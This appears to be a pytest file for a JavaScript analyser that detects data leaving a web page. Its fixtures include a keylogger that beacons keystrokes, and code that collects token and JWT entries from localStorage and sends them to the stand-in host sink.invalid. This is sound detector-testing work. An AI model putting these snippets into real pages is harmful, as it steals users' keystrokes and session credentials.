"""Requests of a page that no call makes."""

import pytest

from tests.analysis.languages.javascript.reading import facts

TYPED = (
    "export function watch(e) {\n  let typed = '';\n  e.addEventListener('keydown', ev => { typed += ev.key; });\n"
    "  setInterval(() => { new Image().src = `https://sink.invalid/1.gif?k=${typed}`; }, 1000);\n}\n"
)
STORED = (
    "const all = {...localStorage};\nconst hit = Object.keys(all).filter(k => /token|jwt/.test(k));\n"
    "link.href = 'https://sink.invalid/p.css?' + hit.map(k => all[k]);\n"
)


def sent(source: str) -> list[str | None]:
    return [use.argument for use in facts(source).uses if use.api == "form-sent"]


@pytest.mark.parametrize(
    "source",
    [
        TYPED,
        STORED,
        STORED.replace("'https://sink.invalid/p.css?' + hit.map(k => all[k])", "`//${n}.${hit[0]}.sink.invalid`"),
        TYPED.replace("new Image().src = `https://sink.invalid/1.gif?k=${typed}`", "navigator.sendBeacon('https://sink.invalid/', typed)"),
        TYPED.replace("typed += ev.key", "typed.push(ev.key)"),
    ],
    ids=["keys", "the store", "in the name of a host", "by a beacon", "in a list"],
)  # fmt: skip
def test_it_is_told_with_the_address(source: str) -> None:
    assert ["https://sink.invalid/"] == sent(source)


@pytest.mark.parametrize(
    "source",
    [
        TYPED.replace("?k=${typed}", "?k=${count}"),
        TYPED.replace("ev.key", "ev.code"),
        TYPED.replace("'keydown'", "'click'"),
        TYPED.replace("https://sink.invalid/1.gif", "${base}/1.gif"),
        STORED.replace("/token|jwt/", "/^app:/"),
        STORED.replace("{...localStorage}", "settings"),
        STORED + "hit.forEach(k => localStorage.removeItem(k));\n",
    ],
    ids=["a count", "no signs", "a click", "an address of its user", "other names", "no store", "tidied up"],
)
def test_less_is_not(source: str) -> None:
    assert [] == sent(source)
